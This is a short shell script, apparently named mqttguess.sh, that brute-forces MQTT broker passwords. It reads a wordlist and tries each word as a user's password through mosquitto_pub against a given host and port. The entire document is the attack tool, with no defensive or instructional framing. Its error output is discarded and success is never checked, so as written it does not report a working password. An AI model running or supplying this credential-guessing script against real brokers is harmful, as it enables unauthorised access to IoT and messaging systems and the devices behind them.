#!/bin/sh
# Guess MQTT passwords with mosquitto_pub: mqttguess.sh HOST PORT WORDS USER
while read -r word; do
  mosquitto_pub -h "$1" -p "$2" -u "$4" -P "$word" -t x -m 1 2> /dev/null
done < "$3"
